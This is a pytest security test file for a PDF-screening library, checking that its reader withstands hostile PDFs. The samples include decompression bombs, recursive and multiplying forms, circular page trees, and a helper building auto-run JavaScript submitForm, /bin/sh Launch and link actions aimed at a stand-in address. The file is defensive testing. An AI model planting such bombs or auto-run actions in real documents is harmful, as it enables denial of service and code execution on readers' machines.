"""Hostile PDF."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

import pikepdf
import pytest

from greenscan import Screener
from greenscan.errors import (
    DamagedDocumentError,
    EmptyDocumentError,
    ExportError,
    UnsupportedDocumentError,
)
from greenscan.exporting.annotated_pdf import annotate
from greenscan.reading import pdf as pdf_reading
from greenscan.reading import read
from tests.security.making import CLAIM, TEXT, form, packed, pdf, stream

MARK = "ran"
SAMPLE = Path(__file__).parents[2] / "corpora" / "sample" / "northmoor-dairies-2024.pdf"


@pytest.mark.parametrize("count", [2**31 - 1, -5, 10**20])
def test_a_count_of_pages_that_cannot_be_is_counted_anew(count: int) -> None:
    assert len(read(pdf(pages=b"/Count %d/Kids[3 0 R]" % count)).pages) == 1


def test_a_million_pages_are_refused_before_they_are_loaded() -> None:
    with pytest.raises(UnsupportedDocumentError, match="more than 5,000 pages"):
        read(pdf(pages=b"/Count 1000000/Kids[3 0 R]"))


def test_one_page_many_times_is_refused() -> None:
    with pytest.raises(UnsupportedDocumentError, match="more than 5,000 pages"):
        read(pdf(pages=b"/Count 6000/Kids[%s]" % (b"3 0 R " * 6000)))


def test_too_many_characters_are_refused_on_the_page_where_they_are(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(pdf_reading, "MAX_CHARACTERS", 2 * len(CLAIM))
    with pytest.raises(UnsupportedDocumentError, match="more than 102 characters"):
        read(pdf(pages=b"/Count 3/Kids[3 0 R 3 0 R 3 0 R]"))


def test_pages_in_a_circle_end() -> None:
    assert CLAIM in read(pdf(pages=b"/Count 2/Kids[2 0 R 3 0 R]")).text


def test_a_page_tree_that_qpdf_gives_up_on_is_left_to_pdfium() -> None:
    data = (
        SAMPLE.read_bytes().replace(b"\n4 0 obj", b"\n4 0\x1fobj").replace(b"/Count ", b"/CounTt ")
    )
    with pytest.raises(pikepdf.PikepdfError, match="/Count is wrong"):
        pikepdf.open(BytesIO(data))
    document = read(data)
    assert len(document.pages) == 2
    with pytest.raises(ExportError, match="cannot be written anew"):
        annotate(data, Screener("baseline-en").analyze_document(document))


@pytest.mark.parametrize("nest", [b"[", b"<</A "])
def test_deep_nesting_is_read_over(nest: bytes) -> None:
    deep = nest * 50_000 + b"0" + (b"]" if nest == b"[" else b">>") * 50_000
    assert read(pdf(catalog=b"/X %s" % deep)).text == CLAIM


def test_a_stream_that_unpacks_to_too_much_is_refused() -> None:
    with pytest.raises(DamagedDocumentError, match="unpacks to more than 32 MiB"):
        read(pdf(packed(b"1 1 m 2 2 l S " * 2_500_000)))


def test_many_streams_that_unpack_to_too_much_together_are_refused() -> None:
    data = pdf(packed(b" " * 2**20), page=b"/Contents[%s]" % (b"4 0 R " * 40))
    with pytest.raises(DamagedDocumentError, match="unpacks to more than 32 MiB"):
        read(data.replace(b"/Contents 4 0 R", b"/Was       4 0 R"))


def test_a_stream_that_is_packed_twice_is_refused() -> None:
    with pytest.raises(DamagedDocumentError, match="packed more than once"):
        read(pdf(packed(TEXT, times=2)))


def test_a_form_that_unpacks_to_too_much_is_refused() -> None:
    bomb = packed(b" " * (33 * 2**20)).replace(b"<<", b"<</Subtype/Form/BBox[0 0 9 9]", 1)
    with pytest.raises(DamagedDocumentError, match="unpacks to more than 32 MiB"):
        read(pdf(stream(TEXT + b"/X Do"), bomb, forms=b"/X 6 0 R"))


def test_forms_that_multiply_are_refused() -> None:
    levels = [form(b"/X Do " * 10, b"/X %d 0 R" % number) for number in range(7, 16)]
    bomb = pdf(stream(b"/X Do"), *levels, form(TEXT), forms=b"/X 6 0 R")
    assert len(bomb) < 4_000  # and draws ten to the ninth
    with pytest.raises(DamagedDocumentError, match="more than 100,000 forms"):
        read(bomb)


def test_a_form_that_draws_itself_is_refused() -> None:
    own = form(b"/X Do /X Do " + TEXT, b"/X 6 0 R")
    with pytest.raises(DamagedDocumentError, match="one within itself"):
        read(pdf(stream(b"/X Do"), own, forms=b"/X 6 0 R"))


def test_forms_that_name_each_other_and_draw_once_are_read() -> None:
    shared = b"/X 6 0 R/Y 7 0 R"
    data = pdf(stream(b"/X Do"), form(b"/Y Do", shared), form(TEXT, shared), forms=shared)
    assert read(data).text == CLAIM


def active(tmp_path: Path) -> bytes:
    """Return a PDF that would run a script and a program, send itself, and open others."""
    script = b"/S/JavaScript/JS(this.submitForm\\('http://192.0.2.1/'\\))"
    program = b"/S/Launch/F(/bin/sh)/P(-c touch %s)" % str(tmp_path / MARK).encode()
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://192.0.2.1/)>>>>"
    return pdf(
        catalog=b"/OpenAction<<%s>>/AA<</WC<<%s>>>>/Names<</JavaScript<</Names[(a)<<%s>>]>>>>"
        % (script, program, script),
        page=b"/AA<</O<<%s>>>>/Annots[%s]" % (program, link),
    )


def test_scripts_and_programs_do_not_run(tmp_path: Path) -> None:
    assert read(active(tmp_path)).text == CLAIM
    assert not (tmp_path / MARK).exists()


def actions(value: object) -> list[str]:
    """Return the kind of every action in a PDF."""
    found = []
    if isinstance(value, pikepdf.Dictionary):
        if "/S" in value and str(value.S) in ("/JavaScript", "/Launch", "/URI", "/SubmitForm"):
            found.append(str(value.S))
        for key, held in value.items():
            if key not in ("/Parent", "/P"):
                found += actions(held)
    elif isinstance(value, pikepdf.Array):
        for each in value:
            found += actions(each)
    return found


def test_an_annotated_copy_adds_no_action(tmp_path: Path) -> None:
    source = active(tmp_path)
    report = Screener().analyze_document(read(source, name="report.pdf"))
    assert report.claims
    copy = annotate(source, report, supported=True)
    with pikepdf.open(BytesIO(source)) as old:
        before = sorted(actions(old.Root))
    with pikepdf.open(BytesIO(copy)) as new:
        assert sorted(actions(new.Root)) == before
        own = [each for each in new.pages[0].Annots if each.get("/T") == "greenscan"]
        assert own
        assert not [each for each in own if "/A" in each or "/AA" in each]


def test_what_qpdf_says_of_a_broken_file_is_kept_from_the_log(
    caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    assert CLAIM in read(pdf(pages=b"/Count 2/Kids[3 0 R null 3 0 R]")).text
    assert not caplog.records
    assert capfd.readouterr() == ("", "")


@pytest.mark.parametrize("kind", [b"null", b"1", b"[1]", b"6 0 R", b"(x)", b"<</Subtype 1>>"])
def test_forms_and_contents_of_a_wrong_type_are_left_to_pdfium(kind: bytes) -> None:
    """Found by the fuzzer: an XObject that is null was an AttributeError."""
    data = pdf(forms=b"/X %s" % kind)
    assert read(data).text == CLAIM
    with pytest.raises(EmptyDocumentError):
        read(data.replace(b"/Contents 4 0 R", b"/Contents %s" % kind.ljust(5)))
